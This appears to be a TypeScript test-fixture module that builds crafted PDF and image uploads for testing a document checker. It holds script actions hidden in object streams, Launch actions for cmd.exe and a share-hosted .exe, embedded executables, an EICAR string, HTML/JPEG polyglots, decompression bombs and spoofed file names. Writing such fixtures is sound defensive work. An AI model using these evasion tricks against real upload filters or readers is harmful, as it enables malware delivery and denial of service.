/**
 * Provides documents that try to pass content other than page images through the document checker. They use unusual syntax,
 * types, sizes or names.
 */
import { Buffer } from 'node:buffer';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { eicar } from './eicar.ts';
import { assemble, testPdf, testStream } from './pdf.ts';
import { imageBomb, millionsOfStrokes, nestedForms } from './pdf-bombs.ts';

export interface CraftedDocument {
  readonly about: string;
  /** The file name of the upload. */
  readonly name: string;
  readonly bytes: Buffer;
}

const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
const program = testStream('/Type /EmbeddedFile', Buffer.from('MZ\x90\0'));

/**
 * Returns a PDF with a script in an object stream. Readers find the stream through a cross-reference stream (ISO 32000-1, 7.5.7
 * and 7.5.8). With `hidesCatalog`, the catalog is in the object stream, too. `spelled` returns the entries of the object stream's
 * dictionary and the data of the stream.
 */
function hiddenCatalog(
  spelled: (first: number, data: Buffer) => { readonly entries: string; readonly data: Buffer },
  hidesCatalog = true,
): Buffer {
  const catalog = `<< /Type /Catalog /Pages 2 0 R /Names 5 0 R ${hidesCatalog ? `/OpenAction ${script}` : ''} >>`;
  const scripts = `<< /JavaScript << /Names [(a) ${script}] >> >>`;
  const inside = hidesCatalog ? [catalog, scripts] : ['null', scripts];
  const header = `${hidesCatalog ? 1 : 8} 0 5 ${(inside[0]?.length ?? 0) + 1} `;
  const plain = Buffer.from(header + inside.map((object) => `${object} `).join(''));
  const { entries, data } = spelled(header.length, plain);
  const objects = new Map<number, string | Buffer>([
    [2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
    [3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>'],
    [4, testStream(entries, data)],
    ...(hidesCatalog ? [] : [[1, catalog] as const]),
    [7, String(header.length)],
  ]);
  let file = Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1');
  const offsets = new Map<number, number>();
  for (const [number, object] of objects) {
    offsets.set(number, file.length);
    const whole = [Buffer.from(`${number} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')];
    file = Buffer.concat([file, ...whole]);
  }
  const start = file.length;
  const row = (type: number, place: number, index: number) =>
    Buffer.from([type, place >> 16, (place >> 8) & 255, place & 255, index]);
  const rows = Array.from({ length: 8 }, (_, number) => {
    const offset = offsets.get(number);
    if (offset !== undefined) return row(1, offset, 0);
    if (number === 1) return row(2, 4, 0);
    if (number === 5) return row(2, 4, 1);
    return number === 6 ? row(1, start, 0) : row(0, 0, 0);
  });
  const index = testStream('/Type /XRef /Size 8 /W [1 3 1] /Root 1 0 R', Buffer.concat(rows));
  return Buffer.concat([
    file,
    Buffer.from('6 0 obj\n'),
    index,
    Buffer.from(`\nendobj\nstartxref\n${start}\n%%EOF\n`),
  ]);
}

/**
 * Returns a PDF as `hiddenCatalog` does, with a compressed object stream. `entries` returns additional entries for the stream's
 * dictionary.
 */
const deflated = (entries: (first: number) => string, hidesCatalog?: boolean) =>
  hiddenCatalog(
    (first, data) => ({
      entries: `/Type /ObjStm /Filter /FlateDecode ${entries(first)}`,
      data: deflateSync(data),
    }),
    hidesCatalog,
  );

const objectStreams: readonly (readonly [string, Buffer])[] = [
  ['in an object stream', deflated((first) => `/N 2 /First ${first}`)],
  ['with a script alone, at a real number', deflated((first) => `/N 2 /First ${first}.0`, false)],
  ['with a script alone, at a number with a dot', deflated((first) => `/N 2 /First ${first}.`, false)],
  ['with a script alone, by a real count', deflated((first) => `/N 2.0 /First ${first}`, false)],
  ['whose first object is at a real number', deflated((first) => `/N 2 /First ${first}.0`)],
  ['whose first object is at a number with a sign', deflated((first) => `/N 2 /First +${first}`)],
  ['whose first object is at a number with zeros', deflated((first) => `/N 2 /First 000${first}`)],
  ['whose first object is at a number with a dot', deflated((first) => `/N 2 /First ${first}.`)],
  ['whose first object is at another position', deflated(() => '/N 2 /First 7 0 R')],
  ['with two firsts', deflated((first) => `/First 1 /N 2 /First ${first}`)],
  ['with a real count', deflated((first) => `/N 2.0 /First ${first}`)],
  ['with an escaped key', deflated((first) => `/N 2 /F#69rst ${first}`)],
  ['with a comment in its dictionary', deflated((first) => `/N 2 % /First 9\n/First ${first}`)],
  ['that extends itself', deflated((first) => `/N 2 /First ${first} /Extends 4 0 R`)],
  [
    'without its type',
    hiddenCatalog((first, data) => ({
      entries: `/Filter [/FlateDecode] /N 2 /First ${first}`,
      data: deflateSync(data),
    })),
  ],
  [
    'with an escaped type',
    hiddenCatalog((first, data) => ({
      entries: `/Type /Obj#53tm /Filter /Fl /N 2 /First ${first}`,
      data: deflateSync(data),
    })),
  ],
  [
    'that is not packed',
    hiddenCatalog((first, data) => ({ entries: `/Type /ObjStm /N 2 /First ${first}`, data })),
  ],
  [
    'in hexadecimal',
    hiddenCatalog((first, data) => ({
      entries: `/Type /ObjStm /Filter /AHx /N 2 /First ${first}`,
      data: Buffer.from(`${data.toString('hex')}>`),
    })),
  ],
  [
    'packed twice',
    hiddenCatalog((first, data) => ({
      entries: `/Type /ObjStm /Filter [/FlateDecode /FlateDecode] /N 2 /First ${first}`,
      data: deflateSync(deflateSync(data)),
    })),
  ],
  [
    'with a predictor',
    hiddenCatalog((first, data) => ({
      entries: `/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 1 >> /N 2 /First ${first}`,
      data: deflateSync(data),
    })),
  ],
];

/** Returns a PDF with one page and an annotation that has these entries. */
function annotated(entries: string, objects: readonly (string | Buffer)[] = []): Buffer {
  return assemble([
    '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
    `<< /Type /Annot /Rect [0 0 200 200] ${entries} >>`,
    ...objects,
  ]);
}

const link = (action: string) => annotated(`/Subtype /Link /A << ${action} >>`);

const actions: readonly (readonly [string, Buffer])[] = [
  ['a script on opening', testPdf(`/OpenAction ${script}`)],
  ['a script in a name in the catalog', testPdf(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`)],
  ['a script when it is closed', testPdf(`/AA << /WC ${script} >>`)],
  ['an escaped script', testPdf('/Open#41ction << /S /J#61va#53cript /#4aS <6170702e616c6572742831293b> >>')],
  [
    'a script in a stream',
    testPdf('/OpenAction << /S /JavaScript /JS 4 0 R >>', [testStream('', Buffer.from('app.alert(1)'))]),
  ],
  ['a script after a page', testPdf(`/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${script} >>`)],
  ['a program to start', testPdf('/OpenAction << /S /Launch /F (cmd.exe) >>')],
  ['a program on a share', link('/S /Launch /Win << /F (\\\\\\\\192.0.2.1\\\\a\\\\b.exe) >>')],
  ['another file on a share', testPdf('/OpenAction << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\a) /D [0 /Fit] >>')],
  ['a link to another file on a share', link('/S /GoToR /F (\\\\\\\\192.0.2.1\\\\a.pdf) /D [0 /Fit]')],
  ['a link into an embedded file', link('/S /GoToE /T << /R /C /N (a) >> /D [0 /Fit]')],
  ['a link to a script', link('/S /URI /URI (javascript:alert\\(1\\))')],
  ['a link to a file', link('/S /URI /URI (file:///etc/passwd)')],
  ['a link to the web', link('/S /URI /URI (https://example.com/)')],
  ['a web address on opening', testPdf('/OpenAction << /S /URI /URI (https://example.com/) >>')],
  ['a form that sends itself', link('/S /SubmitForm /F (https://example.com/) /Flags 4')],
  ['a form that reads a file', link('/S /ImportData /F (a.fdf)')],
  ['a field with a script', annotated(`/Subtype /Widget /FT /Tx /T (a) /V (b) /AA << /K ${script} >>`)],
  ['a button with a script', annotated(`/Subtype /Widget /FT /Btn /T (a) /A ${script}`)],
  [
    'a page with a script',
    assemble([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O ${script} >> >>`,
    ]),
  ],
  ['rich media', annotated('/Subtype /RichMedia /RichMediaContent << >>')],
  ['a movie', annotated('/Subtype /Movie /Movie << /F (https://example.com/a.mov) >>')],
  ['a sound', link('/S /Sound /Sound 5 0 R')],
  [
    'a screen with a rendition',
    annotated(`/Subtype /Screen /A << /S /Rendition /JS (app.alert(1)) /OP 0 >>`),
  ],
  [
    'a paper clip',
    annotated('/Subtype /FileAttachment /FS 5 0 R', ['<< /F (a.exe) /EF << /F 6 0 R >> >>', program]),
  ],
  [
    'an embedded file',
    testPdf('/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>', [
      program,
      '<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>',
    ]),
  ],
  [
    'an embedded file that no name refers to',
    testPdf('/AF [5 0 R]', [program, '<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>']),
  ],
  [
    'a stream at a web address',
    testPdf('/Metadata 4 0 R', [
      '<< /Length 0 /F << /FS /URL /F (https://example.com/) >> >>\nstream\n\nendstream',
    ]),
  ],
  [
    'an XFA form',
    testPdf('/AcroForm << /Fields [] /XFA 4 0 R >>', [
      testStream('', Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>')),
    ]),
  ],
  [
    'a script that a later save removed',
    Buffer.concat([
      testPdf(`/OpenAction ${script}`),
      Buffer.from('1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n'),
    ]),
  ],
];

async function pictures(): Promise<readonly (readonly [string, Buffer])[]> {
  const picture = sharp({ create: { width: 60, height: 40, channels: 3, background: '#336699' } });
  const jpeg = await picture.clone().jpeg().toBuffer();
  const png = await picture.clone().png().toBuffer();
  const page = '<script>alert(document.cookie)</script>';
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, page.length + 2]), Buffer.from(page)]);
  return [
    [
      'a JPEG with an HTML page in its comment',
      Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]),
    ],
    ['a JPEG followed by a PDF', Buffer.concat([jpeg, testPdf(`/OpenAction ${script}`)])],
    ['a JPEG followed by an archive', Buffer.concat([jpeg, Buffer.from('PK\x05\x06'.padEnd(22, '\0'))])],
    [
      'a JPEG with a script as its author',
      await picture
        .clone()
        .jpeg()
        .withExif({ IFD0: { Artist: page } })
        .toBuffer(),
    ],
    ['a PNG followed by an HTML page', Buffer.concat([png, Buffer.from(page)])],
    ['a PNG with an HTML page in its data', await picture.clone().png().withXmp(page).toBuffer()],
  ];
}

const polyglots: readonly (readonly [string, Buffer])[] = [
  ['an archive after the end', Buffer.concat([testPdf(), Buffer.from('PK\x05\x06'.padEnd(22, '\0'))])],
  ['a program after the end', Buffer.concat([testPdf(), Buffer.from('MZ\x90\0This program')])],
  [
    'an HTML page in its first lines',
    Buffer.from(testPdf().toString('latin1').replace('%\xe2', '%<script>alert(1)</script>'), 'latin1'),
  ],
  ['a virus in a comment', Buffer.concat([testPdf(), Buffer.from(`%${eicar}\n`)])],
  ['an HTML page before it', Buffer.concat([Buffer.from('<html><script>alert(1)</script>\n'), testPdf()])],
];

const bombs: readonly (readonly [string, Buffer])[] = [
  ['millions of strokes', millionsOfStrokes(8_000_000)],
  ['an image of 300 MB', imageBomb(10_000)],
  ['forms that draw each other', nestedForms(12)],
  [
    'an object stream of 300 MB',
    testPdf('', [
      testStream(
        '/Type /ObjStm /N 1 /First 5 /Filter [/FlateDecode /FlateDecode]',
        deflateSync(deflateSync(Buffer.alloc(300_000_000))),
      ),
    ]),
  ],
  ['arrays without end', testPdf('', ['['.repeat(200_000)])],
  [
    'a tree of pages that contains itself',
    assemble(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R 2 0 R] /Count 20 >>']),
  ],
  [
    'a page of miles',
    Buffer.from(testPdf().toString('latin1').replace('[0 0 200 200]', '[0 0 9e9 999999999]'), 'latin1'),
  ],
];

const names: readonly string[] = [
  'statement.hta',
  'photo.pdf.exe',
  'photo\u202efdp.exe',
  'statement.pdf...',
  'a.pdf:x.exe',
  'a.pdf::$DATA',
  'statement%2ehta',
  '..%2f..%2fstatement.js',
  '\\\\192.0.2.1\\share\\a.scr',
  'con.pdf.lnk',
  'a.pdf\0.exe',
  '.htaccess',
];

/** Returns all crafted documents. */
export async function craftedDocuments(): Promise<readonly CraftedDocument[]> {
  const all = [...objectStreams, ...actions, ...polyglots, ...(await pictures()), ...bombs];
  return [
    ...all.map(([about, bytes]) => ({ about, bytes, name: 'articles.pdf' })),
    ...names.map((name) => ({ about: `the name ${JSON.stringify(name)}`, bytes: testPdf(), name })),
  ];
}
